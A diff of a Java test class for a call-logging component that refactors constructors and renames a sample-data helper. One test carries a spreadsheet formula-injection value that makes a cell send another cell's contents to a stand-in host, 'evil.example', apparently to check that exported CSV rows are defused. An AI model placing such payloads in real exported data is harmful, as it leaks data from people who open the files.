@@ -55,13 +55,13 @@ class CallLogHonestyTest {
     }
 
     private CallLog direct(Disk disk) {
-        CallLog callLog = new CallLog(dir, Calls.TERMINAL, MOSCOW, clock, disk, Duration.ofHours(1));
+        CallLog callLog = new CallLog(dir, MOSCOW, clock, CallLog.Writing.direct(disk));
         opened.add(callLog);
         return callLog;
     }
 
     private CallLog threaded(Disk disk, Duration retry) {
-        CallLog callLog = new CallLog(dir, Calls.TERMINAL, MOSCOW, clock, disk, Duration.ofHours(1), retry, false);
+        CallLog callLog = new CallLog(dir, MOSCOW, clock, CallLog.Writing.threaded(disk, retry));
         opened.add(callLog);
         return callLog;
     }
@@ -76,8 +76,8 @@ class CallLogHonestyTest {
     void badDayFileDoesNotBlockOtherFilesAndIsReported() throws IOException {
         CallLog callLog = direct(Disk.FSYNC);
         Path blocker = Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
-        CallRecord stuck = Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
-        CallRecord nextDay = Calls.answered("call-2", "2026-11-25T08:00:00+03:00", 5, 60);
+        CallRecord stuck = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
+        CallRecord nextDay = SampleCalls.answered("call-2", "2026-11-25T08:00:00+03:00", 5, 60);
 
         callLog.callEnded(stuck);
         callLog.callEnded(nextDay);
@@ -104,8 +104,8 @@ class CallLogHonestyTest {
     void owedRowIsWrittenByTheTimerWithoutAnotherCall() throws IOException {
         CallLog callLog = threaded(Disk.FSYNC, Duration.ofMillis(200));
         Path blocker = Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
-        CallRecord call = Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
-        callLog.callStarted(Calls.started("call-1", "2026-11-24T12:00:00+03:00"));
+        CallRecord call = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
+        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
         callLog.callEnded(call);
         Wait.until("the row to be reported unwritten", PATIENCE, () -> callLog.status().unwrittenRows() == 1);
 
@@ -123,8 +123,8 @@ class CallLogHonestyTest {
     void endedCallWhoseRowIsOwedIsRecoveredWithItsTrueOutcomeAfterACrash() throws IOException {
         CallLog callLog = direct(Disk.FSYNC);
         Path blocker = Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
-        CallRecord call = Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
-        callLog.callStarted(Calls.started("call-1", "2026-11-24T12:00:00+03:00"));
+        CallRecord call = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
+        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
         callLog.callEnded(call);
         assertEquals(call, Markers.read(dir.resolve("inprogress").resolve("call-1.marker")),
                 "the marker holds the end, so a crash does not turn it into an interrupted call of hours");
@@ -143,8 +143,8 @@ class CallLogHonestyTest {
         CallLog callLog = direct(Disk.FSYNC);
         Files.createDirectory(dir.resolve("calls-2026-11-24.csv"));
         Path marker = dir.resolve("inprogress").resolve("call-1.marker");
-        callLog.callStarted(Calls.started("call-1", "2026-11-24T12:00:00+03:00"));
-        callLog.callEnded(Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
+        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
+        callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
         Instant afterEnd = Files.getLastModifiedTime(marker).toInstant();
 
         clock.advance(Duration.ofHours(3));
@@ -174,7 +174,7 @@ class CallLogHonestyTest {
             }
         };
         CallLog callLog = direct(flaky);
-        CallRecord call = Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
+        CallRecord call = SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60);
         failNext.set(true);
         callLog.callEnded(call);
         assertEquals(1, callLog.status().unwrittenRows(), "a row whose fsync failed is not counted as durable");
@@ -201,7 +201,7 @@ class CallLogHonestyTest {
             }
         };
         Path nested = dir.resolve("var").resolve("calls");
-        CallLog callLog = new CallLog(nested, Calls.TERMINAL, MOSCOW, clock, recording, Duration.ofHours(1));
+        CallLog callLog = new CallLog(nested, MOSCOW, clock, CallLog.Writing.direct(recording));
         opened.add(callLog);
 
         assertEquals(List.of(dir.toAbsolutePath(), dir.resolve("var").toAbsolutePath(), nested.toAbsolutePath()),
@@ -231,7 +231,7 @@ class CallLogHonestyTest {
         CallLog callLog = direct(disk);
         forced.clear();
         failNext.set(true);
-        callLog.callEnded(Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
+        callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
         assertTrue(Files.exists(dir.resolve("calls-2026-11-24.csv")), "the failed append left the file");
         assertEquals(List.of(), forced);
 
@@ -266,8 +266,8 @@ class CallLogHonestyTest {
         CallLog callLog = threaded(hung, Duration.ofHours(1));
         AtomicBoolean returned = new AtomicBoolean();
         Thread callFlow = new Thread(() -> {
-            callLog.callStarted(Calls.started("call-1", "2026-11-24T12:00:00+03:00"));
-            callLog.callEnded(Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
+            callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
+            callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
             returned.set(true);
         }, "call-flow");
         callFlow.start();
@@ -284,7 +284,7 @@ class CallLogHonestyTest {
         diskReleased.countDown();
         callLog.flush();
         assertTrue(callLog.status().ok(), callLog.status().toString());
-        assertEquals(HEADER + CallRow.line(Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60), MOSCOW),
+        assertEquals(HEADER + CallRow.line(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60), MOSCOW),
                 read("calls-2026-11-24.csv"));
     }
 
@@ -293,8 +293,8 @@ class CallLogHonestyTest {
         CallLog callLog = threaded(Disk.FSYNC, Duration.ofHours(1));
         List<Duration> latencies = new java.util.concurrent.CopyOnWriteArrayList<>();
         callLog.observeWriteLatency(latencies::add);
-        callLog.callStarted(Calls.started("call-1", "2026-11-24T12:00:00+03:00"));
-        callLog.callEnded(Calls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
+        callLog.callStarted(SampleCalls.started("call-1", "2026-11-24T12:00:00+03:00"));
+        callLog.callEnded(SampleCalls.answered("call-1", "2026-11-24T12:00:00+03:00", 5, 60));
         callLog.flush();
         assertTrue(latencies.size() >= 2, latencies.toString());
         assertTrue(latencies.stream().noneMatch(Duration::isNegative));
@@ -366,7 +366,7 @@ class CallLogHonestyTest {
         CallLog callLog = direct(Disk.FSYNC);
         String evil = "=HYPERLINK(\"http://evil.example/?\"&A2) <sip:rep@pbx>";
         OffsetDateTime start = OffsetDateTime.parse("2026-11-24T12:00:00+03:00");
-        CallRecord call = new CallRecord(start, Calls.TERMINAL, "call-1", Direction.IN, Outcome.ANSWERED,
+        CallRecord call = new CallRecord(start, SampleCalls.TERMINAL, "call-1", Direction.IN, Outcome.ANSWERED,
                 start.plusSeconds(3), start.plusSeconds(60), evil, 1, 200, EndedBy.REMOTE);
 
         callLog.callEnded(call);
